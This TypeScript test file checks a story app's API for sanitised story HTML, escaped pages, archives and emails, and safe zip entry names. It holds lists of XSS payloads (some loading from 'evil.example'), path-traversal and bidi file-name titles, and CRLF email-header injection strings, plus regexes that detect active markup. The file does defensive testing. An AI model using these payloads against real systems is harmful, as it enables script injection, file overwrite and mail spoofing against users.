// Content safety in core-api: stored story content is sanitised to the tags of spec 000 Limits (p, br,
// strong, em, ul, ol, li, no attributes) on every write path; pages built from user text (the memories story
// page, the archive's offline story pages, the data export) escape it; and zip entry names made from hostile
// titles are safe to extract (no absolute path, no .. or . segment, no backslash, drive letter, control or
// bidi character), in the memories archive and in the data export zip.
// Also held elsewhere: sanitiser unit cases (features/stories/story-content.test.ts), the archive layout with
// a '../../etc/passwd' title (features/archive/archive.test.ts), safeSegment (libs/archive entry-names.test.ts).
import type { ObjectStorage } from '@story/providers';
import { unsafeEntryName, zipEntryNames } from '@story/testing';
import { newFamilyGroup } from '../test/family-factories';
import { newImageRow, newRecordingRow, newStoryRow } from '../test/memories-factories';
import { buildTestApp, signUp, type SignedUp, type TestContext } from '../test/helper';

const ALLOWED = new Set(['p', 'br', 'strong', 'em', 'ul', 'ol', 'li']);

/** Hostile story bodies: script, handlers, URLs, parser confusion, mutation XSS, entities, comments. */
const HOSTILE_CONTENT = [
  '<script>alert(1)</script><p>after</p>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT><p>x</p>',
  '<img src=x onerror=alert(1)><p>pic</p>',
  '<svg onload=alert(1)><p>svg</p></svg>',
  '<p onclick="alert(1)" style="background:url(javascript:alert(1))">click</p>',
  '<a href="javascript:alert(1)">link</a><a href="data:text/html,<script>alert(1)</script>">d</a>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">m</p></noscript>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src="x">',
  '<style>@import "//evil.example/x.css";</style><link rel=stylesheet href=//evil.example>',
  '<!--<script>alert(1)</script>--><p>c</p><![CDATA[<script>alert(1)</script>]]>',
  '<math><mi xlink:href="javascript:alert(1)">m</mi></math><form action=//evil.example><input autofocus onfocus=alert(1)></form>',
  '<p>ok <strong class="x">bold</strong> <em id=y>it</em></p><ul><li data-x=1>one</li></ul>',
  '&lt;script&gt;alert(1)&lt;/script&gt;<p>entities stay text</p>',
  '<p>unclosed <strong>bold',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example/">',
];

/** Hostile titles for names and pages. */
const HOSTILE_TITLES = [
  '../../../../etc/passwd',
  '/absolute/path',
  'C:\\Windows\\System32\\evil',
  '..',
  '.',
  'a/../../b',
  'tab\there\u0001bell\u0007del\u007f',
  'line\r\nbreak',
  'right-to-left \u202Egnp.exe',
  '<script>alert(1)</script>',
  '"quotes" & <tags> \'single\'',
  'trailing dots and spaces. . .',
  'x'.repeat(200),
  'CON',
];

/** Problems of stored content against the allowed tag list (empty when it holds only those, bare). */
function contentProblems(html: string): string[] {
  const problems: string[] = [];
  for (const m of html.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9:-]*)([^>]*)>/g)) {
    const [tag, name, attrs] = m;
    if (!ALLOWED.has(name!.toLowerCase())) problems.push(`tag ${tag}`);
    else if (attrs!.replace(/\s*\/?\s*$/, '').trim() !== '') problems.push(`attributes in ${tag}`);
  }
  const rest = html.replace(/<\/?(p|br|strong|em|ul|ol|li)\s*\/?>/gi, '');
  if (rest.includes('<')) problems.push(`raw < left: ${rest.slice(rest.indexOf('<'), rest.indexOf('<') + 40)}`);
  if (/<!--|<!\[CDATA/.test(html)) problems.push('comment or CDATA');
  return problems;
}

/** What in a page built from user text could run or load something (escaped text is data, not markup). */
function pageProblems(page: string): string[] {
  const problems: string[] = [];
  if (/<script|<img|<svg|<iframe|<object|<embed|<link|<meta http-equiv="refresh"|<base|<form|<input|<math|<style[^>]*>[^<]*@import/i.test(page)) problems.push('active element');
  // Quoted attribute values are data (their quotes are escaped inside); a breakout leaves text outside them.
  const tags = [...page.replace(/="[^"]*"/g, '=""').matchAll(/<[a-zA-Z][^>]*>/g)].map((m) => m[0]);
  if (tags.some((tag) => /\son[a-z]+\s*=/i.test(tag))) problems.push('event handler attribute');
  if ([...page.matchAll(/\s(?:href|src|action)\s*=\s*"([^"]*)"/gi)].some((m) => /^\s*(javascript|data|vbscript):|evil\.example/i.test(m[1]!))) problems.push('hostile URL');
  return problems;
}

let t: TestContext;
let storage: ObjectStorage;
let owner: SignedUp;
beforeAll(async () => {
  t = await buildTestApp({}, { providers: (base) => ((storage = base.storage), {}) });
  owner = await signUp(t.app);
});
afterAll(async () => t.close());

describe('stored story content holds only the allowed tags, bare', () => {
  it.each(HOSTILE_CONTENT.map((c, i) => [i, c] as const))('#%i through POST and PUT /api/stories', async (_i, content) => {
    const created = await t.app.inject({ method: 'POST', url: '/api/stories', headers: owner.headers, payload: { title: 'Hostile', content } });
    expect(created.statusCode).toBe(201);
    const id = created.json().id as string;
    const updated = await t.app.inject({ method: 'PUT', url: `/api/stories/${id}`, headers: owner.headers, payload: { content: `<p>v2</p>${content}` } });
    expect(updated.statusCode).toBe(200);
    const [row] = await t.database.sql`select content from stories where id = ${id}`;
    expect(contentProblems(String(row!['content']))).toEqual([]);
    expect(contentProblems(updated.json().content)).toEqual([]);
  });

  it('through an import: pasted hostile HTML is text, converted stories hold only allowed tags', async () => {
    const body = HOSTILE_CONTENT.join('\n\n') + '\n\n' + 'Plain words follow here. '.repeat(20);
    const res = await t.app.inject({ method: 'POST', url: '/api/imports/paste', headers: owner.headers, payload: { content: body, title: 'Imported' } });
    expect(res.statusCode).toBe(201);
    const converted = await t.app.inject({ method: 'POST', url: `/api/imports/${res.json().id}/convert`, headers: owner.headers, payload: {} });
    expect(converted.statusCode).toBe(201);
    const rows = await t.database.sql`select content from stories where user_id = ${owner.userId} and metadata->>'source' = 'import'`;
    expect(rows.length).toBeGreaterThan(0);
    for (const r of rows) expect(contentProblems(String(r['content']))).toEqual([]);
  });
});

describe('pages and archives built from hostile titles and stored content', () => {
  let teller: SignedUp;
  const storyIds: string[] = [];
  beforeAll(async () => {
    teller = await signUp(t.app);
    const at = new Date('2026-03-01T12:00:00Z');
    for (const [i, title] of HOSTILE_TITLES.entries()) {
      const when = new Date(at.getTime() + i * 60_000);
      // Rows as an older version (or a direct database write) might have left them: content unsanitised.
      storyIds.push((await newStoryRow(t.database.sql, teller.userId, { title, at: when, content: HOSTILE_CONTENT[i % HOSTILE_CONTENT.length] })).id);
      await newRecordingRow(t.database.sql, storage, teller.userId, { title, at: when, transcript: `<script>alert(${i})</script>` });
      await newImageRow(t.database.sql, storage, teller.userId, { title, at: when });
    }
  }, 60_000);

  it('the memories story page escapes every hostile title and content, under a CSP that forbids loading', async () => {
    for (const id of storyIds) {
      const res = await t.app.inject({ method: 'GET', url: `/api/memories/${id}/media?type=story`, headers: teller.headers });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/text\/html/);
      expect(res.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'");
      expect(pageProblems(res.body)).toEqual([]);
    }
  });

  it('the memories archive names every entry safely and its story pages escape the text', async () => {
    const opened = await t.app.inject({ method: 'POST', url: '/api/account/archive', headers: teller.headers, payload: { storytellerId: teller.userId } });
    expect(opened.statusCode).toBe(201);
    const res = await t.app.inject({ method: 'GET', url: `/api/account/archive/${opened.json().job.id}/download?part=all`, headers: teller.headers });
    expect(res.statusCode).toBe(200);
    const names = zipEntryNames(res.rawPayload);
    expect(names.length).toBeGreaterThanOrEqual(HOSTILE_TITLES.length * 3);
    expect(names.map((n) => [n, unsafeEntryName(n)]).filter(([, p]) => p)).toEqual([]);
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    // Each story page: the hostile markup is inert.
    const { default: yauzl } = await import('yauzl');
    const pages = await new Promise<string[]>((resolve, reject) => {
      const out: string[] = [];
      yauzl.fromBuffer(res.rawPayload, { lazyEntries: true }, (err, zip) => {
        if (err || !zip) return reject(err);
        zip.on('entry', (e: import('yauzl').Entry) => {
          if (!/^stories\/.*\.html$/.test(e.fileName)) return zip.readEntry();
          zip.openReadStream(e, (e2, s) => {
            if (e2 || !s) return reject(e2);
            const chunks: Buffer[] = [];
            s.on('data', (c: Buffer) => chunks.push(c));
            s.on('end', () => (out.push(Buffer.concat(chunks).toString('utf8')), zip.readEntry()));
          });
        });
        zip.on('end', () => resolve(out));
        zip.readEntry();
      });
    });
    expect(pages).toHaveLength(HOSTILE_TITLES.length);
    for (const page of pages) expect(pageProblems(page)).toEqual([]);
  });

  it('the data export zip names every entry safely and its HTML escapes the text', async () => {
    const first = await t.app.inject({ method: 'GET', url: '/api/user/data-export?format=zip', headers: teller.headers });
    expect(first.statusCode).toBe(202);
    await t.app.coreJobs.drain();
    const res = await t.app.inject({ method: 'GET', url: '/api/user/data-export?format=zip', headers: teller.headers });
    expect(res.statusCode).toBe(200);
    const names = zipEntryNames(res.rawPayload);
    expect(names.filter((n) => n.startsWith('recordings/')).length).toBeGreaterThanOrEqual(HOSTILE_TITLES.length);
    expect(names.map((n) => [n, unsafeEntryName(n)]).filter(([, p]) => p)).toEqual([]);
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    // Any HTML inside is inert; titles travel as JSON data, never as markup.
    const text = res.rawPayload.toString('latin1');
    expect(text).not.toMatch(/<html[\s\S]*<script/i);
  });
});

describe('emails built from user text', () => {
  const HOSTILE = '<script>alert(1)</script><img src=x onerror=alert(2)><a href="javascript:alert(3)">x</a>';
  const queued = (where: string) =>
    t.database.sql`select subject, html_content, text_content from email_send_queue where to_email = ${where} order by created_at desc limit 1`.then((r) => r[0]!);

  it('a family invitation escapes the inviter name, group name and message in the HTML, and keeps the subject on one line', async () => {
    const inviter = await signUp(t.app);
    await t.database.sql`update profiles set full_name = ${`Eve\r\nBcc: victim@example.test ${HOSTILE}`} where id = ${inviter.userId}`;
    await t.database.sql`update profiles set subscription_tier = 'family' where id = ${inviter.userId}`;
    const group = await newFamilyGroup(t.database.sql, { ownerId: inviter.userId, name: `Fam ${HOSTILE}` });
    const email = 'invited.hostile@example.test';
    const res = await t.app.inject({ method: 'POST', url: '/api/family/invitations', headers: inviter.headers, payload: { familyGroupId: group.id, email, role: 'family_viewer', message: `Msg ${HOSTILE}` } });
    expect(res.statusCode).toBe(201);
    const mail = await queued(email);
    expect(pageProblems(String(mail['html_content']))).toEqual([]);
    expect(String(mail['html_content'])).toContain('&lt;script&gt;');
    expect(String(mail['subject'])).not.toMatch(/[\r\n]/);
  });

  it('a gift email escapes the sender name and message', async () => {
    const buyer = await signUp(t.app);
    const email = 'gift.hostile@example.test';
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/gifts/purchase',
      headers: buyer.headers,
      payload: { recipientName: `Rose ${HOSTILE}`, recipientEmail: email, senderName: `Sam\r\nX-Evil: 1 ${HOSTILE}`, message: `Happy ${HOSTILE}`, planId: 'family' },
    });
    expect(res.statusCode).toBe(201);
    const mail = await queued(email);
    expect(pageProblems(String(mail['html_content']))).toEqual([]);
    expect(String(mail['html_content'])).toContain('&lt;script&gt;');
    expect(String(mail['subject'])).not.toMatch(/[\r\n]/);
  });
});

